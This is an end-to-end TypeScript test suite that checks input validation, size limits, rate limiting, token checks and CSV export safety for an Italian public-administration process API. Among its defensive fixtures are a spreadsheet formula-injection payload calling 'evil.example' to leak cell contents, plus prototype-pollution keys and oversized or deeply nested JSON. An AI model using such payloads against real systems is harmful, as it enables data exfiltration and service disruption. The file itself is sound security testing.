import { request as httpRequest } from 'node:http';
import type { AddressInfo, Server } from 'node:net';
import { SignJWT } from 'jose';
import { DEV_JWT_SECRET } from '@app/common';
import { startHarness, testConfig, type Harness } from '../../../test/support/harness';
import { CONVENTION_TEXT, Scenario, unione } from '../../../test/support/scenario';

/**
 * Issue #9 items 2, 4, 5, 6: the HTTP edge against the real server. Request cost is bounded before any
 * validation (body per route, JSON depth and keys), the rate limit counts a client across every route, each
 * input that used to answer 500 answers a 4xx with a stable code and changes nothing, the history export
 * never passes a failed download off as complete, and the smaller hardening items (no-store, token times,
 * the development secret, notifications read, oversized headers).
 */
const v = unione('valdera');

/** Everything a request could have written: events, versions, instances, entes, inbox reads. */
async function dbState(h: Harness): Promise<Record<string, string>> {
  const rows: Record<string, string>[] = await h.ds.query(
    `SELECT (SELECT count(*) FROM process_event)::text AS events,
            (SELECT coalesce(sum(version), 0) FROM process_instance)::text AS versions,
            (SELECT count(*) FROM process_instance)::text AS instances,
            (SELECT count(*) FROM ente)::text AS entes,
            (SELECT count(*) FROM outbox WHERE read_at IS NOT NULL)::text AS reads`,
  );
  return rows[0]!;
}

/** A raw HTTP request (headers and body exactly as given), for what supertest would normalise. */
function raw(
  h: Harness,
  opts: { method: string; path: string; headers?: Record<string, string>; body?: Buffer | string },
): Promise<{ status: number; headers: Record<string, unknown>; text: string; complete: boolean }> {
  const server = h.app.getHttpServer() as Server;
  const listening = server.listening
    ? Promise.resolve()
    : new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  return listening.then(
    () =>
      new Promise((resolve, reject) => {
        const { port } = server.address() as AddressInfo;
        const req = httpRequest(
          { host: '127.0.0.1', port, method: opts.method, path: opts.path, headers: opts.headers },
          (res) => {
            let text = '';
            res.setEncoding('utf8');
            res.on('data', (c: string) => (text += c));
            const done = () =>
              resolve({
                status: res.statusCode ?? 0,
                headers: res.headers,
                text,
                complete: res.complete,
              });
            res.on('end', done);
            res.on('aborted', done);
            res.on('error', done);
          },
        );
        req.on('error', reject);
        req.end(opts.body);
      }),
  );
}

describe('HTTP edge: bounded request cost, 4xx for every bad input (e2e)', () => {
  let h: Harness;
  let s: Scenario;
  let pres: string;
  let auditor: string;
  let events: string;
  beforeAll(async () => {
    h = await startHarness();
    s = new Scenario(h, v.ipa, v.comuni.slice(0, 3));
    await s.start();
    await s.freeze();
    pres = await s.as('presidente');
    auditor = await h.token({ roles: ['auditor'], ente: v.ipa, unione: v.ipa });
    events = `/v1/processes/${s.id}/events`;
  });
  afterAll(async () => h.close());

  const post = (path: string, token: string, body: string, type = 'application/json') =>
    h
      .http()
      .post(path)
      .set('Authorization', `Bearer ${token}`)
      .set('Content-Type', type)
      .send(body);

  /** Runs `fn`, then checks that nothing in the database moved. */
  async function writesNothing(fn: () => Promise<void>): Promise<void> {
    const before = await dbState(h);
    await fn();
    expect(await dbState(h)).toEqual(before);
  }

  const manyKeys = (n: number) => {
    const keys: string[] = [];
    for (let i = 0; i < n; i++) keys.push(`"k${i}":0`);
    return `{"type":"convention.send","payload":{${keys.join(',')}}}`;
  };

  describe('request cost is bounded before validation', () => {
    it('refuses 100,000 keys with 413 JSON_TOO_MANY_KEYS and a small answer, any token, nothing written', async () => {
      const body = manyKeys(100_000); // ~1 MB: under the text route's limit, so the key count refuses it
      expect(body.length).toBeGreaterThan(900_000);
      await writesNothing(async () => {
        for (const token of [pres, auditor]) {
          const res = await post(events, token, body);
          expect(res.status).toBe(413);
          expect(res.body.code).toBe('JSON_TOO_MANY_KEYS');
          expect(res.text.length).toBeLessThan(500);
        }
      });
    });

    it('refuses a 1.3 MB body on a route that carries no text with 413 PAYLOAD_TOO_LARGE', async () => {
      const body = manyKeys(120_000).replace('"type"', '"definition"');
      expect(body.length).toBeGreaterThan(1_300_000);
      const res = await post('/v1/processes', pres, body);
      expect(res.status).toBe(413);
      expect(res.body.code).toBe('PAYLOAD_TOO_LARGE');
      expect(res.text.length).toBeLessThan(500);
    });

    it('keeps /health answering while a big body is being refused', async () => {
      const [big, health] = await Promise.all([
        post(events, auditor, manyKeys(100_000)),
        h.http().get('/health'),
      ]);
      expect(big.status).toBe(413);
      expect(health.status).toBe(200);
    });

    it('applies the small limit (64 kB) everywhere but where a text is carried', async () => {
      const title = 'x'.repeat(70_000);
      const start = await post(
        '/v1/processes',
        pres,
        JSON.stringify({
          definition: 'convenzione',
          input: { title, unione: v.ipa, members: v.comuni },
        }),
      );
      expect(start.status).toBe(413);
      expect(start.body.code).toBe('PAYLOAD_TOO_LARGE');
      // the events route carries the convention's text: 200 kB of text is read and validated (here: refused
      // by the rule, the process being already frozen — not by the size)
      const text = 'Art. 1 '.repeat(30_000);
      const freeze = await post(
        events,
        pres,
        JSON.stringify({ type: 'convention.freeze', payload: { text } }),
      );
      expect(freeze.status).not.toBe(413);
      expect(freeze.status).toBeLessThan(500);
    });

    it('refuses JSON nested 5,000 deep with 400 JSON_TOO_DEEP, nothing written', async () => {
      await writesNothing(async () => {
        const deep = `{"type":"convention.send","payload":{"a":${'['.repeat(5000)}${']'.repeat(5000)}}}`;
        const res = await post(events, pres, deep);
        expect(res.status).toBe(400);
        expect(res.body.code).toBe('JSON_TOO_DEEP');
        const objects = `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`;
        const res2 = await post('/v1/processes', pres, objects);
        expect(res2.status).toBe(400);
        expect(res2.body.code).toBe('JSON_TOO_DEEP');
      });
    });

    it('caps the field errors of an answer at 20 and says how many there were', async () => {
      const res = await post(events, pres, manyKeys(300));
      expect(res.status).toBe(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
      expect(res.body.details.fields).toHaveLength(20);
      expect(res.body.details.fieldsTruncated).toBe(true);
      expect(res.body.details.fieldsTotal).toBeGreaterThanOrEqual(300);
      expect(res.text.length).toBeLessThan(3000);
    });
  });

  describe('every former 500 is a 4xx with a stable code, and writes nothing', () => {
    const send = (body: unknown) => post(events, pres, JSON.stringify(body));

    it('refuses NUL bytes and lone surrogates in body strings and keys: 400 INVALID_CHARACTERS', async () => {
      await writesNothing(async () => {
        for (const body of [
          `{"type":"convention.send","payload":{"deliveredAt":"2026-02-10T10:00:00Z\\u0000"}}`,
          `{"type":"convention.send","payload":{"deliveredAt":"\\ud800"}}`,
          `{"type":"convention.send","payload":{"deliveredAt":"\\udc00x"}}`,
          `{"type":"convention.send","payload":{"a\\u0000":"x"}}`,
          `{"type":"convention.abandon","payload":{"reason":"ok \\ud83d"}}`,
        ]) {
          const res = await post(events, pres, body);
          expect(res.status).toBe(400);
          expect(res.body.code).toBe('INVALID_CHARACTERS');
        }
        // a well-formed pair (an emoji) is fine characters-wise
        const emoji = await post(
          events,
          pres,
          `{"type":"convention.abandon","payload":{"reason":"ok \\ud83d\\ude00","x":1}}`,
        );
        expect(emoji.body.code).toBe('VALIDATION_FAILED');
      });
    });

    it('refuses a body that is not UTF-8 (a Latin-1 è) with 400 INVALID_CHARACTERS, never storing U+FFFD', async () => {
      await writesNothing(async () => {
        for (const bytes of [
          Buffer.concat([
            Buffer.from('{"type":"convention.abandon","payload":{"reason":"perch'),
            Buffer.from([0xe8]), // "è" in Latin-1
            Buffer.from('"}}'),
          ]),
          Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]), // {"\xff":1}
          Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x7d]), // CESU surrogate
        ]) {
          const res = await raw(h, {
            method: 'POST',
            path: events,
            headers: {
              Authorization: `Bearer ${pres}`,
              'Content-Type': 'application/json',
              'Content-Length': String(bytes.length),
            },
            body: bytes,
          });
          expect([res.status, JSON.parse(res.text).code]).toEqual([400, 'INVALID_CHARACTERS']);
        }
      });
    });

    it('refuses NUL, lone surrogates and broken percent-encoding in the URL: 400 INVALID_CHARACTERS', async () => {
      await writesNothing(async () => {
        for (const path of [
          '/v1/processes?state=%00',
          '/v1/processes?state=%ED%A0%80',
          `/v1/processes/${s.id}/history?actor=%00`,
          `/v1/processes/${s.id}/history?type=a%00b`,
          `/v1/processes/${s.id}/history/export?actor=%00`,
          '/v1/definitions/conv%00enzione',
          '/v1/processes/%E0%A4%A',
          '/v1/processes?state=100%',
        ]) {
          const res = await h.http().get(path).set('Authorization', `Bearer ${auditor}`);
          expect([path, res.status, res.body.code]).toEqual([path, 400, 'INVALID_CHARACTERS']);
          expect(res.headers['content-type']).toMatch(/application\/json/);
        }
      });
    });

    it('refuses an unsupported charset, content encoding or media type with 415', async () => {
      await writesNothing(async () => {
        const body = JSON.stringify({ type: 'convention.abandon', payload: { reason: 'x' } });
        const cases: [Record<string, string>, string][] = [
          [{ 'Content-Type': 'application/json; charset=latin1' }, 'UNSUPPORTED_CHARSET'],
          [{ 'Content-Type': 'application/json; charset=utf-16' }, 'UNSUPPORTED_CHARSET'],
          [{ 'Content-Type': 'application/json; charset=klingon' }, 'UNSUPPORTED_CHARSET'],
          [
            { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' },
            'UNSUPPORTED_CONTENT_ENCODING',
          ],
          [
            { 'Content-Type': 'application/json', 'Content-Encoding': 'br' },
            'UNSUPPORTED_CONTENT_ENCODING',
          ],
          [{ 'Content-Type': 'text/plain' }, 'UNSUPPORTED_MEDIA_TYPE'],
          [{ 'Content-Type': 'application/x-www-form-urlencoded' }, 'UNSUPPORTED_MEDIA_TYPE'],
          [{}, 'UNSUPPORTED_MEDIA_TYPE'],
        ];
        for (const [headers, code] of cases) {
          const res = await raw(h, {
            method: 'POST',
            path: events,
            headers: {
              Authorization: `Bearer ${pres}`,
              'Content-Length': String(Buffer.byteLength(body)),
              ...headers,
            },
            body,
          });
          expect([headers, res.status, JSON.parse(res.text).code]).toEqual([headers, 415, code]);
        }
      });
    });

    it.each([
      ['offset=1e20'],
      ['offset=100000000000000000000'],
      ['offset=-1'],
      ['offset=1.5'],
      ['offset=0x10'],
      ['offset=1000001'],
      ['offset='],
      ['limit=0'],
      ['limit=201'],
      ['limit=1e2'],
      ['limit=abc'],
      ['limit=NaN'],
      ['limit=Infinity'],
      ['limit=10&limit=20'],
    ])('refuses ?%s with 400 VALIDATION_FAILED', async (q) => {
      const res = await h
        .http()
        .get(`/v1/processes?${q}`)
        .set('Authorization', `Bearer ${auditor}`);
      expect(res.status).toBe(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
    });

    it.each([
      ['/v1/processes?limit=-1', 'limit', 'must not be less than 1'],
      ['/v1/processes?limit=99999999999999999999', 'limit', 'must not be greater than 200'],
      ['/v1/processes?offset=-5', 'offset', 'must not be less than 0'],
      ['/v1/processes?offset=1000001', 'offset', 'must not be greater than 1000000'],
      ['HISTORY?after=-1', 'after', 'must not be less than 0'],
      ['HISTORY?after=2147483648', 'after', 'must not be greater than 2147483647'],
      ['HISTORY?limit=100000000000', 'limit', 'must not be greater than 1000'],
    ])('says only what is wrong with %s', async (path, field, error) => {
      const res = await h
        .http()
        .get(path.replace('HISTORY', `/v1/processes/${s.id}/history`))
        .set('Authorization', `Bearer ${auditor}`);
      expect([res.status, res.body.details.fields]).toEqual([400, [{ field, errors: [error] }]]);
    });

    it('accepts the largest offset and limit it documents', async () => {
      const res = await h
        .http()
        .get('/v1/processes?offset=1000000&limit=200')
        .set('Authorization', `Bearer ${auditor}`);
      expect(res.status).toBe(200);
      expect(res.body.items).toEqual([]);
    });

    it.each([['constructor'], ['__proto__'], ['toString'], ['hasownproperty'], ['valueof']])(
      'answers event type %s like any unknown event (400), changing nothing',
      async (type) => {
        await writesNothing(async () => {
          const res = await send({ type, payload: {} });
          expect(res.status).toBe(400);
          expect(res.body.code).toBe('VALIDATION_FAILED');
          expect(res.body.details.fields[0].field).toBe('type');
        });
      },
    );

    it.each([
      [
        '__proto__ in the payload',
        `{"type":"convention.abandon","payload":{"reason":"x","__proto__":{"a":1}}}`,
        'payload.__proto__',
      ],
      [
        'constructor in the payload',
        `{"type":"convention.abandon","payload":{"reason":"x","constructor":{"prototype":{}}}}`,
        'payload.constructor',
      ],
      [
        'prototype in the payload',
        `{"type":"convention.abandon","payload":{"reason":"x","prototype":1}}`,
        'payload.prototype',
      ],
      [
        '__proto__ at the top',
        `{"type":"convention.abandon","payload":{"reason":"x"},"__proto__":{"x":1}}`,
        '__proto__',
      ],
      [
        '__proto__ nested deep',
        `{"type":"convention.abandon","payload":{"reason":"x","a":[{"b":{"__proto__":null}}]}}`,
        'payload.a[0].b.__proto__',
      ],
    ])('refuses %s like an unknown field, changing nothing', async (_, body, field) => {
      await writesNothing(async () => {
        const res = await post(events, pres, body);
        expect(res.status).toBe(400);
        expect(res.body.code).toBe('VALIDATION_FAILED');
        expect(res.body.details.fields).toContainEqual({
          field,
          errors: [`unknown field: ${field}`],
        });
      });
    });

    it('refuses prototype keys in the query string too', async () => {
      const res = await h
        .http()
        .get('/v1/processes?__proto__=x')
        .set('Authorization', `Bearer ${auditor}`);
      expect(res.status).toBe(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
    });

    it('answers a race for the same business key with one 201 and 409 ALREADY_EXISTS for the others', async () => {
      const body = JSON.stringify({
        definition: 'convenzione',
        businessKey: 'race-same-key',
        input: { title: 'Convenzione ICT', unione: v.ipa, members: v.comuni.slice(0, 2) },
      });
      const statuses = (
        await Promise.all(Array.from({ length: 6 }, () => post('/v1/processes', pres, body)))
      ).map((r) => [r.status, (r.body as { code?: string }).code ?? 'created']);
      expect(statuses.filter(([st]) => st === 201)).toHaveLength(1);
      expect(statuses.filter(([st]) => st !== 201)).toEqual(
        Array.from({ length: 5 }, () => [409, 'ALREADY_EXISTS']),
      );
    });

    it('refuses a number that overflows to Infinity (1e400) with 400, not a 500 from the request hash', async () => {
      await writesNothing(async () => {
        for (const body of [
          '{"type":"convention.deadline.extend","payload":{"days":1e400,"reason":"x"}}',
          '{"type":"convention.deadline.extend","payload":{"days":-1e400,"reason":"x"}}',
          '{"type":"convention.abandon","payload":{"reason":"x","n":[1E999]}}',
        ]) {
          const res = await post(events, pres, body);
          expect([res.status, res.body.code]).toEqual([400, 'VALIDATION_FAILED']);
          expect(res.body.details.fields[0].errors).toEqual(['must be a finite number']);
        }
      });
    });

    it('refuses a string of spaces only (a reason, a title) with 400, naming the field', async () => {
      await writesNothing(async () => {
        for (const [body, field] of [
          ['{"type":"convention.abandon","payload":{"reason":"   "}}', 'payload.reason'],
          ['{"type":"convention.abandon","payload":{"reason":"\\t\\n \\u00a0"}}', 'payload.reason'],
        ] as const) {
          const res = await post(events, pres, body);
          expect([res.status, res.body.code]).toEqual([400, 'VALIDATION_FAILED']);
          expect(res.body.details.fields).toEqual([
            { field, errors: ['must not be empty or only spaces'] },
          ]);
        }
        for (const [body, field] of [
          [
            JSON.stringify({
              definition: 'convenzione',
              input: { title: '   ', unione: v.ipa, members: v.comuni.slice(0, 2) },
            }),
            'input.title',
          ],
        ] as const) {
          const res = await post('/v1/processes', pres, body);
          expect([res.status, res.body.code]).toEqual([400, 'VALIDATION_FAILED']);
          expect(res.body.details.fields).toEqual([
            { field, errors: ['must not be empty or only spaces'] },
          ]);
        }
      });
    });

    it('refuses a body that is not a JSON object', async () => {
      await writesNothing(async () => {
        for (const body of [
          '[]',
          '[{"type":"convention.abandon"}]',
          '"x"',
          '1',
          'null',
          '{"a":1',
        ]) {
          const res = await post(events, pres, body);
          expect(res.status).toBe(400);
          expect(['VALIDATION_FAILED', 'MALFORMED_JSON']).toContain(res.body.code);
        }
      });
    });
  });

  describe('unknown fields on routes that declare no query or no body', () => {
    it('refuses a query parameter where the route takes none: 400 VALIDATION_FAILED, as with a DTO', async () => {
      for (const path of [
        `/v1/processes/${s.id}?foo=1`,
        `/v1/processes/${s.id}/diagram?foo=1`,
        `/v1/processes/${s.id}/history/verify?foo=1`,
        '/v1/definitions?foo=1',
        '/v1/definitions/convenzione?foo=1',
        '/v1/todo?foo=1',
        '/auth/me?foo=1',
      ]) {
        const res = await h.http().get(path).set('Authorization', `Bearer ${pres}`);
        expect([path, res.status, res.body.code, res.body.details?.fields]).toEqual([
          path,
          400,
          'VALIDATION_FAILED',
          [{ field: 'foo', errors: ['unknown field: foo'] }],
        ]);
      }
      // the same routes without it, and a route whose DTO declares the parameter, still answer
      expect(
        (await h.http().get(`/v1/processes/${s.id}`).set('Authorization', `Bearer ${pres}`)).status,
      ).toBe(200);
      expect(
        (await h.http().get('/v1/processes?limit=1').set('Authorization', `Bearer ${pres}`)).status,
      ).toBe(200);
    });

    it('refuses body fields where the route takes no body, and writes nothing', async () => {
      await writesNothing(async () => {
        const bogus = '7c0f3a52-4a0e-4f7e-9d51-000000000000';
        for (const path of [
          `/v1/notifications/${bogus}/read`,
          `/v1/webhooks/${bogus}/rotate-secret`,
          '/v1/entes/c_g843/calendar-token',
        ]) {
          const res = await post(path, pres, '{"foo":1}');
          expect([path, res.status, res.body.code]).toEqual([path, 400, 'VALIDATION_FAILED']);
        }
        const get = await h
          .http()
          .get(`/v1/processes/${s.id}`)
          .set('Authorization', `Bearer ${pres}`)
          .set('Content-Type', 'application/json')
          .send('{"foo":1}');
        expect([get.status, get.body.code]).toEqual([400, 'VALIDATION_FAILED']);
        // an empty object is no field at all
        const empty = await post(`/v1/notifications/${bogus}/read`, pres, '{}');
        expect(empty.body.code).toBe('NOTIFICATION_NOT_FOUND');
      });
    });
  });

  describe('responses', () => {
    it('sends Cache-Control: no-store on authenticated answers, errors and exports', async () => {
      for (const path of [
        `/v1/processes/${s.id}`,
        '/v1/processes',
        `/v1/processes/${s.id}/history`,
        `/v1/processes/${s.id}/history/export?format=csv`,
        '/v1/processes/not-a-uuid',
      ]) {
        const res = await h.http().get(path).set('Authorization', `Bearer ${auditor}`);
        expect([path, res.headers['cache-control']]).toEqual([path, 'no-store']);
      }
    });

    it('answers a method a path does not take with 405 and Allow, an unknown path with 404, in Italian', async () => {
      await writesNothing(async () => {
        const cases: [string, string, string][] = [
          ['DELETE', `/v1/processes/${s.id}`, 'GET, HEAD'],
          ['PATCH', '/v1/processes', 'GET, HEAD, POST'],
          ['PUT', `/v1/processes/${s.id}/events`, 'POST'],
          ['OPTIONS', '/v1/definitions', 'GET, HEAD'],
        ];
        for (const [method, path, allow] of cases) {
          const res = await raw(h, {
            method,
            path,
            headers: { Authorization: `Bearer ${pres}` },
          });
          expect([method, path, res.status, res.headers['allow']]).toEqual([
            method,
            path,
            405,
            allow,
          ]);
          expect(JSON.parse(res.text)).toMatchObject({
            code: 'METHOD_NOT_ALLOWED',
            details: { allow: allow.split(', ') },
          });
        }
        const missing = await h
          .http()
          .get('/v1/nope?token=secret')
          .set('Authorization', `Bearer ${pres}`);
        expect([missing.status, missing.body]).toEqual([
          404,
          { code: 'ROUTE_NOT_FOUND', message: 'Percorso non trovato: GET /v1/nope' },
        ]);
      });
    });

    it('answers oversized headers with 431 in the JSON error shape', async () => {
      const res = await raw(h, {
        method: 'GET',
        path: '/v1/processes',
        headers: { Authorization: `Bearer ${auditor}`, 'X-Padding': 'a'.repeat(20_000) },
      });
      expect(res.status).toBe(431);
      expect(res.headers['content-type']).toMatch(/application\/json/);
      expect(JSON.parse(res.text)).toEqual({
        code: 'HEADERS_TOO_LARGE',
        message: expect.any(String),
      });
    });
  });

  describe('tokens', () => {
    const now = () => Math.floor(Date.now() / 1000);
    const sign = (iat: number | null, exp: number) => {
      const jwt = new SignJWT({ roles: ['auditor'], ente: v.ipa, unione: v.ipa })
        .setProtectedHeader({ alg: 'HS256' })
        .setSubject('a')
        .setExpirationTime(exp);
      if (iat !== null) jwt.setIssuedAt(iat);
      return jwt.sign(new TextEncoder().encode(DEV_JWT_SECRET));
    };
    const status = async (token: string) =>
      (await h.http().get('/v1/processes').set('Authorization', `Bearer ${token}`)).status;

    it('refuses an iat in the future beyond the clock skew, a missing iat, a lifetime over the maximum', async () => {
      expect(await status(await sign(now() - 10, now() + 600))).toBe(200);
      expect(await status(await sign(now() + 10, now() + 600))).toBe(200); // within the 30 s skew
      expect(await status(await sign(now() + 600, now() + 1200))).toBe(401);
      expect(await status(await sign(null, now() + 600))).toBe(401);
      // 12 h is the default maximum lifetime (JWT_MAX_LIFETIME_S)
      expect(await status(await sign(now(), now() + 12 * 3600))).toBe(200);
      expect(await status(await sign(now(), now() + 12 * 3600 + 60))).toBe(401);
      expect(await status(await sign(now() - 13 * 3600, now() + 600))).toBe(401);
    });
  });
});

describe('HTTP edge: rate limit across routes, /docs switch, the development secret (e2e)', () => {
  it('counts one client across every route, /docs included, and writes more strictly', async () => {
    const h = await startHarness({
      isolatedDb: false,
      config: testConfig({ RATE_LIMIT_PER_MINUTE: '6', RATE_LIMIT_WRITES_PER_MINUTE: '2' }),
    });
    try {
      const token = await h.token({ roles: ['presidente'], ente: v.ipa, unione: v.ipa });
      const auth = { Authorization: `Bearer ${token}` };
      // two writes (refused by validation, but counted), then the third write is limited
      expect((await h.http().post('/v1/processes').set(auth).send({})).status).toBe(400);
      expect((await h.http().post('/v1/processes').set(auth).send({})).status).toBe(400);
      const third = await h.http().post('/v1/entes').set(auth).send({});
      expect(third.status).toBe(429);
      expect(third.body.code).toBe('RATE_LIMITED');
      // reads still pass: 3 requests so far, 3 more on three other routes
      expect((await h.http().get('/v1/processes').set(auth)).status).toBe(200);
      expect((await h.http().get('/v1/definitions').set(auth)).status).toBe(200);
      expect((await h.http().get('/health')).status).toBe(200);
      // the 7th request of the minute, on routes never called before, is limited
      for (const path of ['/v1/entes', '/docs-json', '/docs/', '/v1/notifications']) {
        const res = await h.http().get(path).set(auth);
        expect([path, res.status]).toEqual([path, 429]);
        expect(res.body.code).toBe('RATE_LIMITED');
        expect(Number(res.headers['retry-after'])).toBeGreaterThan(0);
      }
    } finally {
      await h.close();
    }
  });

  it('serves no /docs nor /docs-json with DOCS_ENABLED=false', async () => {
    const h = await startHarness({
      isolatedDb: false,
      config: testConfig({ DOCS_ENABLED: 'false' }),
    });
    try {
      for (const path of ['/docs', '/docs/', '/docs-json']) {
        const res = await h.http().get(path);
        expect([path, res.status, res.body.code]).toEqual([path, 404, 'ROUTE_NOT_FOUND']);
      }
    } finally {
      await h.close();
    }
  });

  it('refuses to start without a key unless the development secret is asked for', async () => {
    await expect(
      startHarness({ isolatedDb: false, config: testConfig({ JWT_DEV_SECRET: 'false' }) }),
    ).rejects.toThrow(/JWT_DEV_SECRET=true/);
  });
});

describe('notifications: marking read (e2e)', () => {
  let h: Harness;
  let s: Scenario;
  beforeAll(async () => {
    h = await startHarness();
    s = new Scenario(h, v.ipa, v.comuni.slice(0, 2));
    await s.start();
    await s.freeze();
    await s.sendToCouncils('2026-02-10T10:00:00+01:00');
  });
  afterAll(async () => h.close());

  it('answers 204 for one’s own notice, 404 for an unknown one or another ente’s', async () => {
    const [c1, c2] = v.comuni as [string, string];
    const inbox = async (ente: string) =>
      (
        await h
          .http()
          .get('/v1/notifications')
          .set('Authorization', `Bearer ${await s.as('segretario', ente)}`)
      ).body as { id: string; readAt: string | null }[];
    const mine = (await inbox(c1))[0]!;
    expect(mine.readAt).toBeNull();
    const read = async (ente: string, id: string) =>
      h
        .http()
        .post(`/v1/notifications/${id}/read`)
        .set('Authorization', `Bearer ${await s.as('segretario', ente)}`);
    const other = await read(c2, mine.id);
    expect(other.status).toBe(404);
    expect(other.body.code).toBe('NOTIFICATION_NOT_FOUND');
    const otherUnione = await h
      .http()
      .post(`/v1/notifications/${mine.id}/read`)
      .set(
        'Authorization',
        `Bearer ${await h.token({ roles: ['segretario'], ente: c1, unione: 'u_other' })}`,
      );
    expect(otherUnione.status).toBe(404);
    expect((await inbox(c1))[0]!.readAt).toBeNull(); // neither marked it
    const unknown = await read(c1, '7c0f3a52-4a0e-4f7e-9d51-000000000000');
    expect(unknown.status).toBe(404);
    expect(unknown.body.code).toBe('NOTIFICATION_NOT_FOUND');
    expect((await read(c1, mine.id)).status).toBe(204);
    expect((await read(c1, mine.id)).status).toBe(204); // again: still read, same time
    expect((await inbox(c1))[0]!.readAt).not.toBeNull();
  });
});

describe('history export: never a truncated file passed off as complete (e2e)', () => {
  let h: Harness;
  let s: Scenario;
  let auditor: string;
  beforeAll(async () => {
    h = await startHarness({ config: testConfig({ HISTORY_EXPORT_PAGE_SIZE: '2' }) });
    // a subject that a spreadsheet would run as a formula
    s = new Scenario(h, v.ipa, v.comuni.slice(0, 2));
    await s.start();
    h.clock.set(new Date('2026-02-02T09:00:00Z'));
    const evil = await h.token({
      roles: ['presidente'],
      ente: v.ipa,
      unione: v.ipa,
      sub: '=HYPERLINK("https://evil.example/?x="&A1,"apri")',
    });
    const res = await h
      .http()
      .post(`/v1/processes/${s.id}/events`)
      .set('Authorization', `Bearer ${evil}`)
      .send({ type: 'convention.freeze', payload: { text: CONVENTION_TEXT } });
    expect(res.status).toBe(200);
    await s.ok('presidente', v.ipa, 'convention.abandon', {
      reason: '+39 050 000000, @ufficio -ok',
    });
    auditor = await h.token({ roles: ['auditor'], ente: v.ipa, unione: v.ipa });
  });
  afterAll(async () => h.close());

  const exportOf = (id: string, q = 'format=csv') =>
    raw(h, {
      method: 'GET',
      path: `/v1/processes/${id}/history/export?${q}`,
      headers: { Authorization: `Bearer ${auditor}` },
    });

  it('neutralises formulas (OWASP): the cell is quoted and starts with a single quote', async () => {
    const res = await exportOf(s.id);
    expect(res.status).toBe(200);
    expect(res.complete).toBe(true);
    expect(res.text).toContain(`,"'=HYPERLINK(""https://evil.example/?x=""&A1,""apri"")",`);
    // no cell of the file starts with a formula character unquoted
    for (const line of res.text.split('\r\n')) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    // the JSON Lines export keeps the data as it is (it is not opened by spreadsheets)
    const jsonl = await exportOf(s.id, 'format=jsonl');
    expect(jsonl.text).toContain('"subject":"=HYPERLINK(');
  });

  it('answers ?actor=%00 with a 400 JSON error, not a 200 that dies', async () => {
    const res = await exportOf(s.id, 'format=csv&actor=%00');
    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toMatch(/application\/json/);
    expect(JSON.parse(res.text).code).toBe('INVALID_CHARACTERS');
  });

  /**
   * A row the server cannot read (an event recorded with an `infinity` timestamp, written by SQL) makes the
   * query of the page it is in fail. Before the headers, that is a JSON error; after them, the connection is
   * aborted: no terminating chunk, so neither curl nor a browser keeps the file as complete.
   */
  async function appendUnreadableEvent(id: string): Promise<void> {
    await h.ds.transaction(async (m) => {
      await m.query(
        `CREATE TEMP TABLE bad_event ON COMMIT DROP AS
           SELECT * FROM process_event WHERE instance_id = $1 ORDER BY seq DESC LIMIT 1`,
        [id],
      );
      await m.query(
        `UPDATE bad_event SET seq = seq + 1, occurred_at = 'infinity', idempotency_key = NULL, timer_id = NULL`,
      );
      await m.query(`INSERT INTO process_event SELECT * FROM bad_event`);
    });
  }

  it('aborts a download that fails after its first page (the client sees an incomplete answer)', async () => {
    const broken = new Scenario(h, v.ipa, v.comuni.slice(0, 2));
    await broken.start(undefined, 'export-midway');
    await broken.freeze();
    await broken.ok('presidente', v.ipa, 'convention.abandon', { reason: 'prova' });
    await appendUnreadableEvent(broken.id); // seq 4: on the second page (2 events per page here)
    const res = await exportOf(broken.id);
    expect(res.status).toBe(200); // the first page was fine
    expect(res.text).toContain('convention.freeze');
    expect(res.complete).toBe(false);
  });

  it('answers a JSON error when the first page already fails', async () => {
    const broken = new Scenario(h, v.ipa, v.comuni.slice(0, 2));
    await broken.start(undefined, 'export-first-page');
    await appendUnreadableEvent(broken.id); // seq 2: on the first page
    const res = await exportOf(broken.id);
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.headers['content-type']).toMatch(/application\/json/);
    expect(JSON.parse(res.text).code).toEqual(expect.any(String));
    expect(res.headers['content-disposition']).toBeUndefined();
  });
});
